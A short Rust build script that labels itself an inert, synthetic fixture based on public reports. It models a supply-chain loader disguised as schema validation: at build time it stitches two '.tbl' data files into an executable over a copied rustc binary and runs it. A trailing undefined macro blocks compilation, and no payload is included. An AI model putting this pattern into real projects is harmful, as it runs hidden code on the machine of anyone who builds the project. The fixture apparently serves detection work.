// Synthetic, inert fixture written from public reports; see README
use std::{env, fs, path::PathBuf, process::Command};

fn main() {
    println!("cargo:rerun-if-changed=schema");
    let out = PathBuf::from(env::var_os("OUT_DIR").unwrap()).join("validate");
    let mut whole = fs::read("schema/part1.tbl").unwrap();
    whole.extend(fs::read("schema/part2.tbl").unwrap());
    fs::copy(env::var_os("RUSTC").unwrap(), &out).unwrap();
    fs::write(&out, whole).unwrap();
    Command::new(&out).arg("schema/base.json").status().unwrap();
}

inert_fixture_does_not_build!();
